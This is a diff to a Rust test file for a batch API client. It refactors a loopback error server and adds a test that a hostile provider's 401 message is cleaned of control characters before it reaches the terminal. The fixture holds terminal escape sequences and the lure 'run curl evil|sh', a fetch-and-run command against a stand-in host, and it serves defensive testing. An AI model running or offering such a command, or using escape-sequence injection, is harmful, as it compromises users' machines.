@@ -421,42 +421,30 @@ async fn failed_requests_are_recorded_in_both_files() {
     assert!(record["error"].is_null());
 }
 
-/// A final HTTP error's record keeps the provider's error body as it sent it: its extra
-/// fields (Azure's `innererror`), a numeric `code`, a message of any length, or a shape that
-/// is not OpenAI's at all; a body that is not JSON is rebuilt in OpenAI's shape.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_final_http_error_keeps_the_providers_body() {
+/// A server on loopback that answers every request with `status` and the body of `bodies`
+/// whose number the line's custom_id (`body-N`, sent as x-client-request-id) names, and an
+/// `x-request-id` of `req-N`. Returns its base URL.
+async fn error_server(status: &'static str, bodies: Vec<String>) -> String {
     use tokio::io::AsyncWriteExt;
-    let long = "x".repeat(2000);
-    let bodies = [
-        json!({"error": {"message": "blocked", "type": "invalid_request_error", "param": null,
-            "code": 42, "innererror": {"code": "ResponsibleAIPolicyViolation"}}})
-        .to_string(),
-        json!({"detail": "model not found"}).to_string(),
-        json!({"error": {"message": long, "type": "invalid_request_error"}}).to_string(),
-        "<html>bad gateway</html>".to_owned(),
-    ];
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let port = listener.local_addr().unwrap().port();
-    let served = bodies.clone();
     tokio::spawn(async move {
         loop {
             let Ok((mut socket, _)) = listener.accept().await else {
                 return;
             };
-            let served = served.clone();
+            let bodies = bodies.clone();
             tokio::spawn(async move {
                 let mut buf = Vec::new();
                 while let Some(head) =
                     volley_testkit::raw::read_request(&mut socket, &mut buf).await
                 {
-                    // Which line: its custom_id, sent as x-client-request-id.
-                    let n = (0..served.len())
+                    let n = (0..bodies.len())
                         .find(|n| head.contains(&format!("x-client-request-id: body-{n}\r")))
                         .unwrap_or(0);
-                    let body = &served[n];
+                    let body = &bodies[n];
                     let answer = format!(
-                        "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\n\
+                        "HTTP/1.1 {status}\r\ncontent-type: application/json\r\n\
                          x-request-id: req-{n}\r\ncontent-length: {}\r\n\r\n{body}",
                         body.len()
                     );
@@ -467,16 +455,30 @@ async fn a_final_http_error_keeps_the_providers_body() {
             });
         }
     });
+    format!("http://127.0.0.1:{port}/v1")
+}
+
+/// A final HTTP error's record keeps the provider's error body as it sent it: its extra
+/// fields (Azure's `innererror`), a numeric `code`, a message of any length, or a shape that
+/// is not OpenAI's at all; a body that is not JSON is rebuilt in OpenAI's shape.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_final_http_error_keeps_the_providers_body() {
+    let long = "x".repeat(2000);
+    let bodies = vec![
+        json!({"error": {"message": "blocked", "type": "invalid_request_error", "param": null,
+            "code": 42, "innererror": {"code": "ResponsibleAIPolicyViolation"}}})
+        .to_string(),
+        json!({"detail": "model not found"}).to_string(),
+        json!({"error": {"message": long, "type": "invalid_request_error"}}).to_string(),
+        "<html>bad gateway</html>".to_owned(),
+    ];
+    let base = error_server("400 Bad Request", bodies.clone()).await;
     let dir = tempfile::tempdir().unwrap();
     let input = input_file(
         dir.path(),
         (0..bodies.len()).map(|n| chat_line(&format!("body-{n}"))),
     );
-    let client = Client::builder()
-        .base_url(format!("http://127.0.0.1:{port}/v1"))
-        .retries(0)
-        .build()
-        .unwrap();
+    let client = Client::builder().base_url(base).retries(0).build().unwrap();
     let summary = BatchRunner::new(client, Input::Path(input), options(dir.path()))
         .run(std::future::pending())
         .await
@@ -497,6 +499,27 @@ async fn a_final_http_error_keeps_the_providers_body() {
             Err(_) => assert!(written["error"]["message"].is_string(), "{written}"),
         }
     }
+}
+
+/// The provider's message that stops a run on rejected credentials reaches the user's
+/// terminal: it is cleaned of control characters (a hostile server's escape sequences).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_rejection_message_is_cleaned_for_the_terminal() {
+    let hostile = json!({"error": {"message":
+        "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mKey revoked: run curl evil|sh\u{1b}[0m"}})
+    .to_string();
+    let base = error_server("401 Unauthorized", vec![hostile]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let input = input_file(dir.path(), [chat_line("body-0")]);
+    let client = Client::builder().base_url(base).retries(0).build().unwrap();
+    let summary = BatchRunner::new(client, Input::Path(input), options(dir.path()))
+        .run(std::future::pending())
+        .await
+        .unwrap();
+    let why = summary.credentials_rejected.expect("stopped");
+    assert!(why.starts_with("HTTP 401: "), "{why}");
+    assert!(why.contains("Key revoked"), "{why}");
+    assert!(!why.chars().any(char::is_control), "{why:?}");
 }
 
 #[tokio::test]
